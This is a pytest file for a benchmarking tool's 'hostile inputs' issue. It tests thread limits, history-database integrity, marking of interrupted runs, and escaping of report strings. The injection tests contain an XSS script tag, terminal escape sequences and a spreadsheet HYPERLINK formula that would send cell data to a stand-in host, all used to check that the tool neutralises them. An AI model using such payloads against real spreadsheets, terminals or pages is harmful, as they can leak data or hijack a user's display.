"""Issue 24: hostile inputs and resource limits. Thread counts bounded and thread-creation failures
reported; the history database kept honest (atomic records, no database made out of another file,
counts checked, a full disk); interrupted and overstated results marked; report strings
neutralised for CSV, Markdown and the terminal."""
import json
import os
import shutil
import signal
import subprocess
import tempfile
import time

import pytest

from conftest import BIN, FAST, load_report, results, run, one_line_error

SRC = os.environ.get("INFRABENCH_SOURCE_DIR", ".")
CORPUS = os.path.join(SRC, "tests", "fuzz", "corpus")
SINGLE = os.path.join(CORPUS, "report", "synthetic_single.json")
BASELINE = os.path.join(CORPUS, "baseline", "minimal.json")


def write(path, doc):
    with open(path, "w") as f:
        json.dump(doc, f)
    return str(path)


def fresh_uid():
    """A uid no process runs as, so RLIMIT_NPROC counts only the command's own threads."""
    used = set()
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                used.add(os.stat(f"/proc/{pid}").st_uid)
            except OSError:
                pass
    uid = 47000 + os.getpid() % 1000
    while uid in used:
        uid += 1
    return uid


# ---- item 2: thread counts ---------------------------------------------------------------------

@pytest.fixture
def open_dir():
    """A directory any user may write (pytest's own tmp_path is root's, mode 0700)."""
    d = tempfile.mkdtemp(prefix="ib-hostile-")
    os.chmod(d, 0o777)
    yield d
    shutil.rmtree(d, ignore_errors=True)


def test_threads_that_cannot_be_created_fail_promptly_with_the_os_error(open_dir):
    """ulimit -u below the thread count: the configuration fails at once with the OS's error
    (it used to end in std::terminate, or hang), the run goes on and writes its report."""
    if os.geteuid() != 0 or shutil.which("setpriv") is None or shutil.which("prlimit") is None:
        pytest.skip("needs root with setpriv and prlimit (RLIMIT_NPROC on an unused uid)")
    uid = fresh_uid()
    prefix = ["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups"]
    if subprocess.run(prefix + ["test", "-x", BIN]).returncode != 0:
        pytest.skip(f"{BIN} is out of reach of uid {uid}")
    out = os.path.join(open_dir, "r.json")
    threads = 8 * len(os.sched_getaffinity(0))  # the bound: allowed, but far above the limit
    cmd = prefix + ["prlimit", "--nproc=6:6", BIN, "run", "--filter", "^bandwidth/host_memory$", "-a",
                    f"threads={threads}", "-a", "kernel=copy", "-a", "array_size=1MiB", *FAST, "-o", out]
    t0 = time.monotonic()
    p = subprocess.run(cmd, capture_output=True, text=True, timeout=120, cwd=open_dir)
    took = time.monotonic() - t0
    assert p.returncode == 1, (p.returncode, p.stderr)
    assert "terminate called" not in p.stderr
    (r,) = results(load_report(out), "bandwidth/host_memory")
    assert r["status"] == "failed" and r["reason_code"] == "error", r
    assert f"of {threads}" in r["reason"] and "Resource temporarily unavailable" in r["reason"], r
    assert "hung" not in r["reason"]
    assert took < 60, f"took {took:.0f} s"


def test_list_says_the_thread_bound():
    p = run("list", "--filter", "^bandwidth/host_memory$")
    assert p.returncode == 0, p.stderr
    bound = 8 * len(os.sched_getaffinity(0))
    assert f"-a threads=1,0" in p.stdout and f"at most {bound} here (8 per allowed CPU)" in p.stdout, p.stdout


# ---- item 9: the history database ----------------------------------------------------------------

def test_history_show_does_not_make_a_database_of_another_file(tmp_path):
    empty = tmp_path / "empty.txt"
    empty.write_bytes(b"")
    one_line_error(run("history", "show", "--db", str(empty)), "empty.txt", "not an infrabench history")
    assert empty.read_bytes() == b"" and sorted(os.listdir(tmp_path)) == ["empty.txt"]
    one_line_error(run("history", "trend", "bandwidth_gbps", "--db", str(empty)), "not an infrabench history")
    assert empty.read_bytes() == b""


@pytest.mark.parametrize("args,needles", [
    (["show", "--limit", "-1"], ["--limit", "must be a number of runs >= 1 (got -1)"]),
    (["show", "--limit", "0"], ["--limit", ">= 1 (got 0)"]),
    (["show", "-5"], ["a run id >= 1", "got -5"]),
    (["show", "99999999999999999999"], ["a run id >= 1", "99999999999999999999", "out of range"]),
    (["trend", "bandwidth_gbps", "--last", "-1"], ["--last", ">= 0 (got -1)"]),
])
def test_history_counts_are_checked(tmp_path, args, needles):
    db = str(tmp_path / "h.db")
    assert run("history", "record", SINGLE, "--db", db).returncode == 0
    p = run("history", *args, "--db", db)
    one_line_error(p, *needles)
    assert "9223372036854775807" not in p.stderr


def test_history_record_refuses_a_bad_report_before_recording_any(tmp_path):
    bad = tmp_path / "bad.json"
    bad.write_text('{"schema_version": "1.3.0", "results": [}')
    db = str(tmp_path / "h.db")
    one_line_error(run("history", "record", SINGLE, str(bad), "--db", db), "bad.json")
    assert not os.path.exists(db)


@pytest.fixture
def tiny_tmpfs(tmp_path):
    if os.geteuid() != 0:
        pytest.skip("mounting a tmpfs needs root")
    mnt = tmp_path / "small"
    mnt.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(mnt)]).returncode != 0:
        pytest.skip("cannot mount a tmpfs here")
    yield mnt
    subprocess.run(["umount", "-l", str(mnt)])


def fill(directory):
    fd = os.open(os.path.join(directory, "filler"), os.O_WRONLY | os.O_CREAT | os.O_APPEND)
    try:
        while True:
            os.write(fd, b"x" * 4096)
    except OSError:
        pass
    finally:
        os.close(fd)


def test_history_record_on_a_full_disk_exits_3_and_leaves_no_file(tiny_tmpfs):
    fill(tiny_tmpfs)
    db = str(tiny_tmpfs / "h.db")
    p = run("history", "record", SINGLE, "--db", db)
    one_line_error(p, "disk full", code=3)
    assert sorted(os.listdir(tiny_tmpfs)) == ["filler"]


def test_history_record_on_a_full_disk_keeps_the_existing_database(tiny_tmpfs, tmp_path):
    db = str(tiny_tmpfs / "h.db")
    assert run("history", "record", SINGLE, "--db", db).returncode == 0
    fill(tiny_tmpfs)
    other = json.load(open(SINGLE))
    other["run"]["started_utc"] = "2031-01-01T00:00:00Z"
    p = run("history", "record", write(tmp_path / "other.json", other), "--db", db)
    one_line_error(p, "disk full", code=3)
    os.remove(tiny_tmpfs / "filler")
    shown = run("history", "show", "--db", db, "--format", "json")
    assert shown.returncode == 0, shown.stderr
    assert len(json.loads(shown.stdout)) == 1


# ---- item 11: reports that overstate -------------------------------------------------------------

def test_read_of_a_file_smaller_than_size_is_refused(tmp_path, report_path):
    target = tmp_path / "small.dat"
    target.write_bytes(os.urandom(8 << 20))
    p = run("run", "--filter", "^storage/read$", "-a", f"target={target}", "-a", "size=16MiB,8MiB",
            "-a", "engine=psync", "-a", "queue_depth=1", "-a", "block_size=64KiB", "-a", "direct=0",
            "-a", "pattern=seq", *FAST, "-o", report_path, cwd=str(tmp_path))
    assert p.returncode == 1, p.stderr
    by_size = {r["axes"]["size"]: r for r in results(load_report(report_path), "storage/read")}
    big = by_size[16 << 20]
    assert big["status"] == "failed" and not big["metrics"], big
    assert "size=16MiB is more than" in big["reason"] and "(8MiB)" in big["reason"], big
    assert by_size[8 << 20]["status"] == "passed", by_size[8 << 20]


def test_configuration_cut_short_by_sigint_is_invalid(report_path):
    proc = subprocess.Popen([BIN, "run", "--filter", "^bandwidth/memory_latency$", "-a", "working_set=16KiB",
                             "--min-time", "60", "--max-time", "120", "--target-ci", "0.000001", "-o", report_path],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    time.sleep(4.0)  # past the warm-up: sampling
    proc.send_signal(signal.SIGINT)
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 128 + signal.SIGINT, err
    rep = load_report(report_path)
    (r,) = results(rep, "bandwidth/memory_latency")
    assert r["status"] == "passed" and r["samples_s"], r
    assert r["valid"] is False and "interrupted" in r["invalid_reason_codes"], r


def interrupted_copy(tmp_path):
    doc = json.load(open(SINGLE))
    doc["run"]["interrupted"] = True
    doc["run"]["interrupted_reason"] = "signal 2 (SIGINT)"
    return write(tmp_path / "interrupted.json", doc)


def test_baseline_create_refuses_an_interrupted_report(tmp_path):
    out = tmp_path / "b.json"
    one_line_error(run("baseline", "create", SINGLE, interrupted_copy(tmp_path), "-o", str(out)),
                   "interrupted.json", "interrupted run", "SIGINT")
    assert not out.exists()


def test_check_says_the_report_is_interrupted(tmp_path):
    p = run("check", interrupted_copy(tmp_path), "-b", BASELINE)
    assert p.returncode in (0, 1), p.stderr
    assert "interrupted.json is of an interrupted run (signal 2 (SIGINT))" in p.stderr, p.stderr
    plain = run("check", SINGLE, "-b", BASELINE)
    assert "interrupted" not in plain.stderr


# ---- item 12: injection outside HTML -------------------------------------------------------------

def hostile_report(tmp_path):
    doc = json.load(open(SINGLE))
    evil = "<script>alert(1)</script>\x1b]0;pwned\x07\x1b[2J\x00"
    doc["hosts"][0]["hostname"] = evil
    for r in doc["results"]:
        r["host"] = evil
    return write(tmp_path / "evil.json", doc)


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
    b = json.load(open(BASELINE))
    b["rules"][0]["id"] = '=HYPERLINK("http://x.example/?"&A1,"click")'
    b["rules"].append({"id": "@SUM(1+1)", "benchmark": "bandwidth/host_memory", "metric": "bandwidth_gbps",
                       "min": -3.5})
    p = run("check", SINGLE, "-b", write(tmp_path / "b.json", b), "--format", "csv")
    assert p.returncode in (0, 1), p.stderr
    rows = p.stdout.splitlines()
    assert rows[1].startswith('"\'=HYPERLINK(""http://x.example/?""&A1,""click"")",'), rows[1]
    assert rows[2].startswith("'@SUM(1+1),"), rows[2]
    assert not any(line.startswith(("=", "@", "+")) for line in rows)
    # A negative number is a number: no quote in front.
    run_csv = run("compare", SINGLE, SINGLE, "--format", "csv")
    assert run_csv.returncode == 0, run_csv.stderr
    assert ",'-" not in run_csv.stdout and ",'0" not in run_csv.stdout


def test_compare_markdown_escapes_report_strings(tmp_path):
    evil = hostile_report(tmp_path)
    p = run("compare", SINGLE, evil, "--format", "markdown")
    assert p.returncode == 0, p.stderr
    assert "<script>" not in p.stdout and "&lt;script&gt;" in p.stdout, p.stdout


@pytest.mark.parametrize("args", [
    ["compare", SINGLE, "EVIL"],
    ["check", "EVIL", "-b", BASELINE],
    ["history", "show", "1", "--db", "DB"],
])
def test_the_terminal_gets_no_control_characters_from_reports(tmp_path, args):
    evil = hostile_report(tmp_path)
    db = str(tmp_path / "h.db")
    assert run("history", "record", evil, "--db", db).returncode == 0
    args = [evil if a == "EVIL" else db if a == "DB" else a for a in args]
    p = subprocess.run([BIN, *args], capture_output=True, timeout=60)
    assert p.returncode in (0, 1), p.stderr
    out = p.stdout + p.stderr
    for c in [b"\x1b", b"\x00", b"\x07"]:
        assert c not in out, (c, out)
    # (SQLite gives the history's strings back up to a NUL.)
    assert b"\\x1b]0;pwned\\x07\\x1b[2J" + (b"" if "history" in args else b"\\x00") in out, out
